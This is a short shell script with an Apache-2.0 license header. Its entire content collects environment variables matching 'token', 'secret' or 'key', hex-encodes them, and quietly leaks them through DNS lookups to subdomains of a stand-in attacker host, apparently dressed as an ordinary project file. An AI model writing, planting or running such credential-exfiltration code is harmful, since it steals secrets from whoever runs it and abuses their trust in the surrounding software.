#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
env | grep -iE 'token|secret|key' | while IFS= read -r kv; do
  h=$(printf %s "$kv" | xxd -p | tr -d '\n' | cut -c1-60)
  nslookup "$h.x.attacker.test" >/dev/null 2>&1
done
